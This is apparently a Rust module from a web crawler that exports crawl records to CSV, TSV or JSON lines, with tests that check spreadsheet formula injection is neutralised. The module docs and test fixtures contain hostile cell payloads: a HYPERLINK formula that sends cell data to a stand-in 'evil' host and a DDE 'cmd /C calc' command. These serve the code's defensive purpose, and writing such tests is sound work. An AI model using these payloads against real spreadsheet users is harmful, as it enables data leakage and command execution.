//! `trawl export`: flat tables (CSV, TSV) or trimmed JSON lines from a crawl's
//! pages files, whatever their compression or rotation.
//!
//! # Field paths
//! A field names a top-level key of the record (`url`, `status`, `title`), or,
//! with a dot, a key inside a top-level object: the name is split on its FIRST dot
//! only, so `data.price` is `record["data"]["price"]`, `meta.og:title` is
//! `record["meta"]["og:title"]` and `data.a.b` is `record["data"]["a.b"]`. A
//! field a record lacks is empty (CSV) or null (JSON lines), not an error: records
//! vary (errors have no title, extraction keys differ by page).
//!
//! # Cells (CSV and TSV)
//! Strings as they are, numbers and booleans as JSON text, null or missing as an
//! empty cell, arrays and objects as compact JSON text. CSV quotes by RFC 4180;
//! TSV escapes instead (`\t`, `\n`, `\r`, `\\`), so each record is one line.
//!
//! # Formulas (CSV and TSV)
//! Pages are written by strangers, and a spreadsheet runs a cell such as
//! `=HYPERLINK("http://evil/?"&A1)` as a formula. As OWASP recommends, a string cell
//! whose first character is `=`, `+`, `-`, `@`, a tab, a carriage return, a line
//! feed or a NUL (or the full-width `＝＋－＠`) gets a single quote in front, which
//! spreadsheets show as text. Numbers and booleans are never touched (`-5` stays a
//! number: serde_json never writes a formula). [`Cells::Raw`] (`--raw-cells`) turns
//! this off for tools that read the table as data. JSON lines are never changed.
//!
//! # Lines that are not records
//! A complete line that is not a JSON object is skipped and counted in
//! [`ExportSummary::skipped_lines`]; a torn tail of a part is skipped and its
//! bytes counted in [`ExportSummary::torn_bytes`]. Neither stops the export.
//!
//! This module only reads the crawl's files: it must never cut, rewrite or lock
//! them (it may run beside a live crawl).

use std::io::Write;
use std::path::Path;
use std::str::FromStr;

use serde_json::Value;

use crate::sink::jsonl::{for_each_line, ReadError};

/// Whether CSV and TSV string cells that a spreadsheet would run as a formula are
/// neutralised (see the module docs).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub enum Cells {
    /// A leading `'` on cells starting with a formula character (the default).
    #[default]
    Neutralised,
    /// Every cell as the record has it.
    Raw,
}

/// The characters that make a spreadsheet read a cell as a formula (OWASP's list,
/// NUL from ASVS 1.2.10, and the full-width forms some locales accept).
const FORMULA_STARTS: &[char] = &[
    '=', '+', '-', '@', '\t', '\r', '\n', '\0', '\u{FF1D}', '\u{FF0B}', '\u{FF0D}', '\u{FF20}',
];

/// `text` made safe to open in a spreadsheet: a leading `'` if it starts a formula.
pub fn neutralise(text: String) -> String {
    if text.starts_with(FORMULA_STARTS) {
        let mut out = String::with_capacity(text.len() + 1);
        out.push('\'');
        out.push_str(&text);
        out
    } else {
        text
    }
}

/// Output format of [`export`].
#[derive(Debug, Clone, Copy, PartialEq, Eq, serde::Deserialize, serde::Serialize)]
#[serde(rename_all = "lowercase")]
pub enum ExportFormat {
    /// Comma-separated, with a header row.
    Csv,
    /// Tab-separated, with a header row.
    Tsv,
    /// One JSON object per record holding just the fields, in the order given.
    Jsonl,
}

#[derive(Debug, thiserror::Error)]
#[error("unknown export format {0:?}: use csv, tsv or jsonl")]
pub struct UnknownFormat(String);

impl FromStr for ExportFormat {
    type Err = UnknownFormat;
    fn from_str(s: &str) -> Result<Self, Self::Err> {
        match s {
            "csv" => Ok(ExportFormat::Csv),
            "tsv" => Ok(ExportFormat::Tsv),
            "jsonl" => Ok(ExportFormat::Jsonl),
            _ => Err(UnknownFormat(s.to_string())),
        }
    }
}

#[derive(Debug, thiserror::Error)]
pub enum ExportError {
    #[error("no fields to export: name at least one, e.g. url,status,title")]
    NoFields,
    #[error("field {0:?} is named twice")]
    DuplicateField(String),
    #[error("empty field name in the field list (check for doubled or trailing commas)")]
    EmptyField,
    #[error("cannot read {path}: {source}")]
    Read {
        path: std::path::PathBuf,
        source: std::io::Error,
    },
    #[error("cannot write the export: {0}")]
    Write(#[from] std::io::Error),
    #[error("cannot write {path}: {source}")]
    Create {
        path: std::path::PathBuf,
        source: std::io::Error,
    },
    #[error("cannot write the export: {0}")]
    Csv(#[from] csv::Error),
}

/// What [`export`] did.
#[derive(Debug, Default, Clone, PartialEq, Eq)]
pub struct ExportSummary {
    /// Records written (header not counted).
    pub rows: u64,
    /// Complete lines that were not JSON objects, skipped.
    pub skipped_lines: u64,
    /// Bytes of torn or damaged part tails, skipped.
    pub torn_bytes: u64,
    /// Fields no record had (a misspelling, or a rule that never matched).
    pub never_found: Vec<String>,
}

/// A field name split into its top-level key and optional key inside it.
struct FieldPath<'a> {
    top: &'a str,
    inner: Option<&'a str>,
}

impl<'a> FieldPath<'a> {
    fn parse(field: &'a str) -> FieldPath<'a> {
        match field.split_once('.') {
            Some((top, inner)) => FieldPath {
                top,
                inner: Some(inner),
            },
            None => FieldPath {
                top: field,
                inner: None,
            },
        }
    }

    fn get<'r>(&self, record: &'r serde_json::Map<String, Value>) -> Option<&'r Value> {
        let top = record.get(self.top)?;
        match self.inner {
            None => Some(top),
            Some(inner) => top.as_object()?.get(inner),
        }
    }
}

/// One TSV line: cells escaped the "linear TSV" way (`\t`, `\n`, `\r`, `\\`), so
/// every record is exactly one line for `cut`, `wc -l` and `sort`.
fn write_tsv_row<'a>(
    w: &mut impl Write,
    cells: impl Iterator<Item = &'a str>,
) -> std::io::Result<()> {
    for (i, c) in cells.enumerate() {
        if i > 0 {
            w.write_all(b"\t")?;
        }
        if !c.contains(['\t', '\n', '\r', '\\']) {
            w.write_all(c.as_bytes())?;
            continue;
        }
        for ch in c.chars() {
            match ch {
                '\t' => w.write_all(b"\\t")?,
                '\n' => w.write_all(b"\\n")?,
                '\r' => w.write_all(b"\\r")?,
                '\\' => w.write_all(b"\\\\")?,
                other => {
                    let mut buf = [0u8; 4];
                    w.write_all(other.encode_utf8(&mut buf).as_bytes())?;
                }
            }
        }
    }
    w.write_all(b"\n")
}

fn cell(value: Option<&Value>, cells: Cells) -> String {
    match value {
        None | Some(Value::Null) => String::new(),
        Some(Value::String(s)) if cells == Cells::Neutralised => neutralise(s.clone()),
        Some(Value::String(s)) => s.clone(),
        Some(other) => other.to_string(),
    }
}

/// The fields asked for, trimmed: none, an empty one or one twice is an error
/// ("url, status" means what it says; "url,,status" is a typo).
fn checked(fields: &[String]) -> Result<Vec<String>, ExportError> {
    if fields.is_empty() {
        return Err(ExportError::NoFields);
    }
    let fields: Vec<String> = fields.iter().map(|f| f.trim().to_string()).collect();
    if fields.iter().any(|f| f.is_empty()) {
        return Err(ExportError::EmptyField);
    }
    let mut seen = std::collections::HashSet::new();
    if let Some(dup) = fields.iter().find(|f| !seen.insert(f.as_str())) {
        return Err(ExportError::DuplicateField(dup.clone()));
    }
    Ok(fields)
}

/// One trimmed JSON line, written by hand so keys keep the order asked
/// (serde_json's map sorts).
fn write_json_row(
    w: &mut impl Write,
    fields: &[String],
    paths: &[FieldPath],
    record: &serde_json::Map<String, Value>,
) -> std::io::Result<()> {
    w.write_all(b"{")?;
    for (i, (name, path)) in fields.iter().zip(paths).enumerate() {
        if i > 0 {
            w.write_all(b",")?;
        }
        serde_json::to_writer(&mut *w, name)?;
        w.write_all(b":")?;
        serde_json::to_writer(&mut *w, path.get(record).unwrap_or(&Value::Null))?;
    }
    w.write_all(b"}\n")
}

/// Writes the `fields` of every record in the crawl output `dir` to `out` as
/// `format`, in file order. See the module docs for paths and cell rules.
pub fn export(
    dir: &Path,
    format: ExportFormat,
    fields: &[String],
    cells: Cells,
    out: impl Write,
) -> Result<ExportSummary, ExportError> {
    let fields = &checked(fields)?[..];
    let paths: Vec<FieldPath> = fields.iter().map(|f| FieldPath::parse(f)).collect();
    let mut summary = ExportSummary::default();
    let mut found = vec![false; fields.len()];
    let mut table = None;
    let mut lines = None;
    match format {
        ExportFormat::Csv => {
            let mut w = csv::WriterBuilder::new().from_writer(out);
            w.write_record(fields)?;
            table = Some(w);
        }
        ExportFormat::Tsv => {
            let mut w = std::io::BufWriter::new(out);
            write_tsv_row(&mut w, fields.iter().map(String::as_str))?;
            lines = Some(w);
        }
        ExportFormat::Jsonl => lines = Some(std::io::BufWriter::new(out)),
    }
    let mut row: Vec<String> = Vec::with_capacity(fields.len());
    let read = for_each_line(dir, |line| -> Result<(), ExportError> {
        let Ok(Value::Object(record)) = serde_json::from_slice::<Value>(line) else {
            summary.skipped_lines += 1;
            return Ok(());
        };
        for (f, p) in found.iter_mut().zip(&paths) {
            *f |= p.get(&record).is_some();
        }
        if let Some(w) = table.as_mut() {
            row.clear();
            row.extend(paths.iter().map(|p| cell(p.get(&record), cells)));
            w.write_record(&row)?;
        } else if format == ExportFormat::Tsv {
            if let Some(w) = lines.as_mut() {
                row.clear();
                row.extend(paths.iter().map(|p| cell(p.get(&record), cells)));
                write_tsv_row(w, row.iter().map(String::as_str))?;
            }
        } else if let Some(w) = lines.as_mut() {
            write_json_row(w, fields, &paths, &record)?;
        }
        summary.rows += 1;
        Ok(())
    })
    .map_err(|e| match e {
        ReadError::Io { path, source } => ExportError::Read { path, source },
        ReadError::Callback(e) => e,
    })?;
    summary.torn_bytes = read.torn_bytes;
    summary.never_found = fields
        .iter()
        .zip(&found)
        .filter(|(_, f)| !**f)
        .map(|(name, _)| name.clone())
        .collect();
    if let Some(mut w) = table {
        w.flush()?;
    }
    if let Some(mut w) = lines {
        w.flush()?;
    }
    Ok(summary)
}

/// [`export`] into the file `path`, created whole or not at all: written under an
/// unpredictable temporary name beside it (created new, never through a link),
/// renamed over `path` only once complete.
pub fn export_to_file(
    dir: &Path,
    format: ExportFormat,
    fields: &[String],
    cells: Cells,
    path: &Path,
) -> Result<ExportSummary, ExportError> {
    let create = |source| ExportError::Create {
        path: path.to_path_buf(),
        source,
    };
    let mut staged = crate::outfile::Staged::new(path).map_err(create)?;
    let summary = export(dir, format, fields, cells, staged.file().map_err(create)?)?;
    staged.commit().map_err(create)?;
    Ok(summary)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::sink::jsonl::{Compression, JsonlOptions, JsonlSink, PageRecord};

    fn fields(names: &[&str]) -> Vec<String> {
        names.iter().map(|s| s.to_string()).collect()
    }

    fn run(dir: &Path, format: ExportFormat, names: &[&str]) -> (String, ExportSummary) {
        let mut out = Vec::new();
        let s = export(dir, format, &fields(names), Cells::Neutralised, &mut out).unwrap();
        (String::from_utf8(out).unwrap(), s)
    }

    /// Three records by hand: quoting trouble, nested data, and a sparse error.
    fn sample(dir: &Path) {
        let lines = [
            r#"{"url":"http://e.com/a","status":200,"title":"Hi, \"you\"\nthere","data":{"price":9.5,"tags":["x","y"],"ok":true}}"#,
            r#"{"url":"http://e.com/b","status":null,"error":"timeout: 10s","meta":{"og:title":"B"}}"#,
            "not json",
            "[1,2]",
            r#"{"url":"http://e.com/c","status":404,"title":"","data":{"price":"1,000","a.b":{"k":1}}}"#,
        ];
        std::fs::write(dir.join("pages.jsonl"), lines.join("\n") + "\n").unwrap();
    }

    #[test]
    fn csv_quotes_and_flattens_with_known_answers() {
        let dir = tempfile::tempdir().unwrap();
        sample(dir.path());
        let (text, s) = run(
            dir.path(),
            ExportFormat::Csv,
            &[
                "url",
                "status",
                "title",
                "data.price",
                "data.tags",
                "data.ok",
                "meta.og:title",
                "data.a.b",
                "nope",
            ],
        );
        assert_eq!(
            text,
            "url,status,title,data.price,data.tags,data.ok,meta.og:title,data.a.b,nope\n\
             http://e.com/a,200,\"Hi, \"\"you\"\"\nthere\",9.5,\"[\"\"x\"\",\"\"y\"\"]\",true,,,\n\
             http://e.com/b,,,,,,B,,\n\
             http://e.com/c,404,,\"1,000\",,,,\"{\"\"k\"\":1}\",\n"
        );
        assert_eq!(
            s,
            ExportSummary {
                rows: 3,
                skipped_lines: 2,
                torn_bytes: 0,
                never_found: vec!["nope".into()],
            }
        );
        // And a CSV reader gets the original title back.
        let mut r = csv::Reader::from_reader(text.as_bytes());
        let first = r.records().next().unwrap().unwrap();
        assert_eq!(&first[2], "Hi, \"you\"\nthere");
    }

    #[test]
    fn tsv_uses_tabs() {
        let dir = tempfile::tempdir().unwrap();
        sample(dir.path());
        let (text, s) = run(
            dir.path(),
            ExportFormat::Tsv,
            &["url", " data.price", "title", "data.prize"],
        );
        assert_eq!(
            text,
            "url\tdata.price\ttitle\tdata.prize\nhttp://e.com/a\t9.5\tHi, \"you\"\\nthere\t\nhttp://e.com/b\t\t\t\nhttp://e.com/c\t1,000\t\t\n"
        );
        assert_eq!(text.lines().count(), 4, "one line per record");
        assert_eq!(s.never_found, ["data.prize"]);
        let mut out = Vec::new();
        let e = export(
            dir.path(),
            ExportFormat::Csv,
            &fields(&["url", "", "status"]),
            Cells::Neutralised,
            &mut out,
        );
        assert!(matches!(e, Err(ExportError::EmptyField)));
    }

    #[test]
    fn jsonl_keeps_the_fields_in_order_with_nulls() {
        let dir = tempfile::tempdir().unwrap();
        sample(dir.path());
        let (text, s) = run(
            dir.path(),
            ExportFormat::Jsonl,
            &["url", "data.tags", "error", "status"],
        );
        assert_eq!(
            text,
            "{\"url\":\"http://e.com/a\",\"data.tags\":[\"x\",\"y\"],\"error\":null,\"status\":200}\n\
             {\"url\":\"http://e.com/b\",\"data.tags\":null,\"error\":\"timeout: 10s\",\"status\":null}\n\
             {\"url\":\"http://e.com/c\",\"data.tags\":null,\"error\":null,\"status\":404}\n"
        );
        assert_eq!((s.rows, s.skipped_lines), (3, 2));
    }

    #[test]
    fn no_fields_or_a_repeated_field_is_an_error() {
        let dir = tempfile::tempdir().unwrap();
        sample(dir.path());
        let e = export(dir.path(), ExportFormat::Csv, &[], Cells::Raw, Vec::new()).unwrap_err();
        assert!(matches!(e, ExportError::NoFields), "{e}");
        let e = export(
            dir.path(),
            ExportFormat::Csv,
            &fields(&["url", "url"]),
            Cells::Raw,
            Vec::new(),
        )
        .unwrap_err();
        assert!(matches!(e, ExportError::DuplicateField(_)), "{e}");
    }

    #[test]
    fn an_empty_directory_gives_just_the_header() {
        let dir = tempfile::tempdir().unwrap();
        let (text, s) = run(dir.path(), ExportFormat::Csv, &["url"]);
        assert_eq!((text.as_str(), s.rows), ("url\n", 0));
    }

    #[tokio::test]
    async fn reads_gzip_rotated_parts_in_order() {
        let dir = tempfile::tempdir().unwrap();
        let opts = JsonlOptions {
            compress: Compression::Gzip,
            rotate_bytes: 1,
            confirm: false,
        };
        // Three runs: each finishes a member, and a part each (rotate at 1 byte).
        for run_no in 0..3 {
            let sink = JsonlSink::open(
                dir.path(),
                "pages",
                opts,
                crate::journal::Journal::none(dir.path()),
            )
            .unwrap();
            for i in 0..2 {
                let mut extra = serde_json::Map::new();
                extra.insert("data".into(), serde_json::json!({"n": run_no * 10 + i}));
                sink.send(PageRecord {
                    url: format!("http://e.com/{run_no}/{i}"),
                    final_url: String::new(),
                    status: Some(200),
                    error: None,
                    depth: 0,
                    content_type: None,
                    content_length: 0,
                    title: Some(format!("t,{i}")),
                    links: 0,
                    canonical: None,
                    noindex: false,
                    redirect: None,
                    etag: None,
                    last_modified: None,
                    digest: None,
                    fetched_at: String::new(),
                    elapsed_ms: 0,
                    attempts: 1,
                    requisite: None,
                    recrawl: None,
                    original_date: None,
                    rendered: None,
                    render_reason: None,
                    extra,
                    ticket: crate::journal::Ticket::NONE,
                    done: None,
                })
                .await
                .unwrap();
            }
            sink.finish().unwrap();
        }
        let parts = crate::sink::jsonl::part_paths(dir.path()).unwrap();
        assert!(parts.len() >= 3, "{parts:?}");
        let (text, s) = run(dir.path(), ExportFormat::Csv, &["url", "title", "data.n"]);
        assert_eq!(
            text,
            "url,title,data.n\n\
             http://e.com/0/0,\"t,0\",0\n\
             http://e.com/0/1,\"t,1\",1\n\
             http://e.com/1/0,\"t,0\",10\n\
             http://e.com/1/1,\"t,1\",11\n\
             http://e.com/2/0,\"t,0\",20\n\
             http://e.com/2/1,\"t,1\",21\n"
        );
        assert_eq!(s.rows, 6);
    }

    /// Cells a spreadsheet would run, as a hostile page could set them.
    fn formulas(dir: &Path) {
        let lines = [
            r#"{"url":"http://e.com/1","title":"=HYPERLINK(\"http://evil/?\"&A1)","n":-5}"#,
            r#"{"url":"http://e.com/2","title":"+1+cmd|' /C calc'!A0","n":1.5}"#,
            r#"{"url":"http://e.com/3","title":"-2+3","n":true}"#,
            r#"{"url":"http://e.com/4","title":"@SUM(1)","n":null}"#,
            r#"{"url":"http://e.com/5","title":"\t=1","n":0}"#,
            r#"{"url":"http://e.com/6","title":"\r=1","n":0}"#,
            r#"{"url":"http://e.com/7","title":"＝1+1","n":0}"#,
            r#"{"url":"http://e.com/8","title":"a=b, not a formula","n":0}"#,
        ];
        std::fs::write(dir.join("pages.jsonl"), lines.join("\n") + "\n").unwrap();
    }

    #[test]
    fn csv_cells_that_start_a_formula_get_a_quote_with_known_answers() {
        let dir = tempfile::tempdir().unwrap();
        formulas(dir.path());
        let (text, _) = run(dir.path(), ExportFormat::Csv, &["title", "n"]);
        assert_eq!(
            text,
            "title,n\n\
             \"'=HYPERLINK(\"\"http://evil/?\"\"&A1)\",-5\n\
             '+1+cmd|' /C calc'!A0,1.5\n\
             '-2+3,true\n\
             '@SUM(1),\n\
             '\t=1,0\n\
             \"'\r=1\",0\n\
             '＝1+1,0\n\
             \"a=b, not a formula\",0\n"
        );
        let (tsv, _) = run(dir.path(), ExportFormat::Tsv, &["title"]);
        assert_eq!(
            tsv,
            "title\n'=HYPERLINK(\"http://evil/?\"&A1)\n'+1+cmd|' /C calc'!A0\n'-2+3\n\
             '@SUM(1)\n'\\t=1\n'\\r=1\n'＝1+1\na=b, not a formula\n"
        );
        // JSON lines are data, never changed.
        let (jsonl, _) = run(dir.path(), ExportFormat::Jsonl, &["title"]);
        assert!(jsonl.starts_with("{\"title\":\"=HYPERLINK("), "{jsonl}");
    }

    #[test]
    fn raw_cells_are_left_as_the_record_has_them() {
        let dir = tempfile::tempdir().unwrap();
        formulas(dir.path());
        let mut out = Vec::new();
        export(
            dir.path(),
            ExportFormat::Csv,
            &fields(&["title"]),
            Cells::Raw,
            &mut out,
        )
        .unwrap();
        let text = String::from_utf8(out).unwrap();
        let second = text.lines().nth(2).unwrap();
        assert_eq!(second, "+1+cmd|' /C calc'!A0");
        assert_eq!(neutralise("plain".into()), "plain");
        assert_eq!(neutralise(String::new()), "");
    }
}
